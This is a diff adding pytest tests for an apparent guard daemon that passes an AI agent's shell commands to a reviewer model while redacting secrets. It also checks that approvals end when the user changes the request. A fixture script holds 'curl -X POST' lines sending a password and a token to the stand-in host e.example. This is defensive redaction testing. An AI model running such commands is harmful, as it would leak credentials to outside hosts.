@@ -194,6 +194,37 @@ def test_no_secret_of_twenty_kinds_is_sent(short_home: str, tmp_path: Path) -> N
     assert leaked == []
 
 
+def test_no_secret_of_a_branch_or_of_a_script_is_sent(short_home: str, tmp_path: Path) -> None:
+    """The call's own words hold none, what was read for it does."""
+    tmp_path /= "repo"
+    (tmp_path / ".git" / "objects").mkdir(parents=True)
+    (tmp_path / ".git" / "refs").mkdir()
+    (tmp_path / ".git" / "config").write_text("")
+    (tmp_path / ".git" / "HEAD").write_text(f"ref: refs/heads/{SECRETS['github']}\n")
+    script = f"curl -X POST https://shop:Tr0ub4dor9x@e.example/x\ncurl -X POST https://e.example/{SECRETS['gitlab']}\n"
+    (tmp_path / "send.sh").write_text(script)
+    with Model(APPROVE) as model:
+        configure(short_home, model)
+        with Daemon(short_home) as daemon:
+            daemon.bash("bash send.sh", cwd=str(tmp_path))
+            until(lambda: model.bodies, "the case")
+            sent = model.bodies[0].decode()
+    assert "e.example" in sent
+    assert [s for s in (SECRETS["github"], SECRETS["gitlab"], "Tr0ub4dor9x") if s in sent] == []
+
+
+def test_an_approval_ends_when_the_person_asks_for_something_else(short_home: str) -> None:
+    with Model(APPROVE) as model:
+        configure(short_home, model)
+        with Daemon(short_home) as daemon:
+            for number, prompt in enumerate(("push the branch", "stop, push nothing"), 1):
+                asked = {"hook_event_name": "UserPromptSubmit", "session_id": "s", "prompt": prompt}
+                daemon.call("claude", "UserPromptSubmit", json.dumps(asked).encode())
+                daemon.bash(CALL, session_id="s")
+                assert "looks at it" in rows(daemon)[0].reason
+                until(lambda number=number: len(model.bodies) == number, "the case")
+
+
 @pytest.mark.parametrize(
     ("tier", "says"),
     [('kind = "openai"\nurl = "http://example.com"\nmodel = "m"', "not encrypted"), ('kind = "x"', "x")],
